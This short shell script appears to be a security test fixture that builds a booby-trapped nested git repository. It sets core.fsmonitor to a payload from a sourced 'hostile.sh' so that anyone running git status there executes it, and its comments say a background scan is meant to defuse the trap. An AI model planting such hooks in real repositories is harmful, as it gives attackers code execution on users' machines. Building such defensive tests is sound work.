#!/bin/sh
# Makes a repository in a directory of the workspace.
# Matters: who enters it and asks for its status, or whose prompt does, runs its core.fsmonitor.
# Held by: the background scan moves its configuration away.
# judge: host
# harm: owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
mkdir -p nested
git init -q nested 2>/dev/null || evil_repository nested/.git
git -C nested config core.fsmonitor "$payload; false"
